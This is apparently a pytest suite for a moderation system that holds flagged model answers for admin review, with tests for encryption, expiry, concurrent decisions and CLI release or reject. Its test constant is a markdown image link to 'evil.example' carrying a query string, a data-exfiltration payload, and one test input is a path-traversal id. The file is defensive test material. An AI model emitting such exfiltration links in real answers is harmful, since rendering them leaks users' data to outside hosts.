"""Held answers: kept privately, decided once, and the commands and verbs that review them."""

import dataclasses
import datetime as dt
import json
import threading
from pathlib import Path

import pytest
from calls import hook
from click.testing import CliRunner

import workbench as wb
from workbench import layout
from workbench.cli.app import cli
from workbench.content import ContentKeys
from workbench.controls.moderation import Moderation
from workbench.errors import (
    ConfigError,
    CorruptError,
    ModerationError,
    NotFoundError,
    PolicyError,
    RefusedError,
    UnavailableError,
)
from workbench.models import ModelCard
from workbench.moderation.held import HeldAnswers, HeldTexts
from workbench.records.tape import Tape
from workbench.testing.fakes import FakeModel
from workbench.workspace.boundary import Boundary, StatePaths
from workbench.workspace.reviewing import held_answers

ROOT = Path(__file__).resolve().parents[3]
LINK = "See ![x](https://evil.example/?q=1)"


@pytest.fixture
def held(tmp_path):
    return HeldAnswers(folder=tmp_path / layout.HELD, keys=ContentKeys(tmp_path / "keys"))


def kept(held, **more):
    facts = {
        "at": "2026-11-30T10:00:00+00:00", "use_case": "answers", "tenant": "acme", "principal": "ada",
        "target": "m", "operation": "chat", "trace_id": "t", "check": "exfiltration",
    }  # fmt: skip
    return held.keep(
        HeldTexts(request={"messages": []}, answer={"choices": []}, text=LINK), **{**facts, **more}
    )


def decided(held, answer, state="released", reason="fine"):
    return held.decide(answer.id, state, by="bob", reason=reason, at="2026-11-30T11:00:00+00:00")


def test_an_answer_is_decided_once(held):
    answer = kept(held)
    assert decided(held, answer).state == "released" and held.texts(held.get(answer.id)).text == LINK
    with pytest.raises(RefusedError, match="released by bob") as caught:
        decided(held, answer, "rejected")
    assert caught.value.exit_code == 2


def test_a_rejected_answer_loses_its_texts(held):
    answer = kept(held)
    decided(held, answer, "rejected")
    (path,) = held.folder.glob("*.json")
    assert held.get(answer.id).sealed == "" and held.get(answer.id).reason == "fine"
    assert path.stat().st_mode & 0o077 == 0
    with pytest.raises(NotFoundError, match="rejected"):
        held.texts(held.get(answer.id))


def test_the_texts_are_sealed_under_the_key_of_their_subject(held):
    answer, other = kept(held, subject="cust-4711"), kept(held)
    for path in held.folder.glob("*.json"):
        assert "evil" not in path.read_text() and "cust-4711" not in path.read_text()
        assert path.stat().st_mode & 0o077 == 0
    held.keys.erase("acme", "cust-4711")
    with pytest.raises(NotFoundError):
        held.texts(held.get(answer.id))
    assert held.texts(other).text == LINK


def test_texts_that_were_changed_or_moved_to_another_answer_are_not_read(held):
    answer, other = kept(held), kept(held, tenant="globex")
    for moved in (
        dataclasses.replace(other, sealed=answer.sealed, key=answer.key),
        dataclasses.replace(answer, principal="eve"),
        dataclasses.replace(answer, sealed="!" + answer.sealed[1:]),
    ):
        with pytest.raises(CorruptError):
            held.texts(moved)


def test_what_has_expired_is_removed_once_a_day_and_by_the_command(held, ws):
    old = kept(held, expires="2026-11-29")
    last, open_ended = kept(held, expires="2026-11-30"), kept(held)
    (held.folder / ("0" * 16 + ".json")).write_text("{")  # nobody can tell what it is
    assert held.get(old.id) and held.purge(dt.date(2026, 11, 30)) == 1
    with pytest.raises(NotFoundError):
        held.get(old.id)
    fresh = HeldAnswers(folder=held.folder, keys=held.keys)
    added = kept(fresh, at="2026-12-01T10:00:00+00:00")
    names = {path.stem for path in held.folder.glob("*.json")}
    assert names == {open_ended.id, added.id, "0" * 16} and last.id not in names
    assert "removed 0" in run("purge")


def test_the_expiry_cannot_be_changed(held):
    answer = kept(held, expires="2026-11-30")
    with pytest.raises(CorruptError):
        held.texts(dataclasses.replace(answer, expires="2099-01-01"))


def test_two_reviewers_at_once_are_one_decision(held):
    answer, ends = kept(held), []

    def decide(state):
        try:
            ends.append(decided(held, answer, state).state)
        except RefusedError:
            ends.append("refused")

    threads = [threading.Thread(target=decide, args=(state,)) for state in ("released", "rejected") * 4]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert ends.count("refused") == 7 and held.get(answer.id).state in ends


@pytest.mark.parametrize("name", ["", "0", "../../params", "0" * 16, "x" * 300])
def test_an_unknown_id_is_named_and_no_other_file_is_read(held, name):
    kept(held)
    with pytest.raises(NotFoundError, match="no held answer"):
        held.get(name)


def test_a_decision_needs_a_reason(held):
    with pytest.raises(ConfigError, match="reason"):
        decided(held, kept(held), reason=" ")


def test_a_damaged_file_is_named(held):
    answer = kept(held)
    (held.folder / f"{answer.id}.json").write_text("{")
    with pytest.raises(ConfigError, match=answer.id):
        list(held.all())


def test_an_answer_that_cannot_be_written_is_not_given(tmp_path):
    (tmp_path / "held").write_text("a file where a folder belongs")
    with pytest.raises(UnavailableError):
        kept(HeldAnswers(folder=tmp_path / "held", keys=ContentKeys(tmp_path / "keys")))


@pytest.fixture
def ws(tmp_path, monkeypatch):
    for name in ("pipelines", "notebooks", "data"):
        (tmp_path / name).symlink_to(ROOT / name)
    (tmp_path / "params.yaml").write_text((ROOT / "params.yaml").read_text())
    monkeypatch.chdir(tmp_path)
    boundary = Boundary(
        tmp_path, mode="live", tape=Tape(tmp_path / "t"),
        cards=[ModelCard.unsaved("m")], places=StatePaths(home=tmp_path, moderating=Always(tmp_path)),
    )  # fmt: skip
    boundary._models["m"] = FakeModel(lambda _: LINK)
    return wb.connect("answers", root=tmp_path, through=boundary)


class Always:
    """Holds each answer with a link that carries data."""

    def __init__(self, root):
        self.root = root

    def control(self, card, handler):
        hooks = [hook("exfiltration", "out", "hold")]
        return {"moderation": Moderation(hooks, held=held_answers(self.root))}


def run(*arguments, code=0):
    done = CliRunner().invoke(cli, ["moderation", *arguments])
    if isinstance(done.exception, Exception) and not isinstance(done.exception, SystemExit):
        raise done.exception
    assert done.exit_code == code, done.output
    return done.stdout


def test_a_reviewer_releases_and_the_caller_reads(ws):
    with pytest.raises(ModerationError) as caught:
        ws.model("m").chat("a taxi?")
    name = caught.value.held
    assert ws.released(name) is None
    (row,) = json.loads(run("held", "--json"))
    assert (row["id"], row["tenant"], row["check"], row["state"]) == (name, "acme", "exfiltration", "waiting")
    assert name in run("held") and "evil" not in run("held") and "evil" in run("held", name)
    assert name in run("release", name, "--reason", "a link of ours")
    assert ws.released(name) == LINK and "no answer waits" in run("held") and name in run("held", "--all")
    with pytest.raises(NotFoundError):
        ws.bind(tenant="globex").released(name)
    path = ws.root / layout.HELD / f"{name}.json"
    path.write_text(
        path.read_text().replace(f'"principal":"{ws.context.principal.name}"', '"principal":"eve"')
    )
    with pytest.raises(NotFoundError, match="of yours"):
        ws.released(name)


def test_a_rejected_answer_is_refused_to_the_caller(ws):
    with pytest.raises(ModerationError) as caught:
        ws.model("m").chat("a taxi?")
    run("reject", caught.value.held, "--reason", "it carries data")
    with pytest.raises(RefusedError, match="carries data"):
        ws.released(caught.value.held)


def test_only_an_admin_reviews(ws):
    with pytest.raises(ModerationError) as caught:
        ws.model("m").chat("a taxi?")
    params = ws.root / "params.yaml"
    params.write_text(
        params.read_text().replace(
            "    groups: [everyone, people", "    admins: [nobody]\n    groups: [everyone, people"
        )
    )
    assert json.loads(run("held", "--json")) == []
    with pytest.raises(PolicyError):
        run("release", caught.value.held, "--reason", "mine")
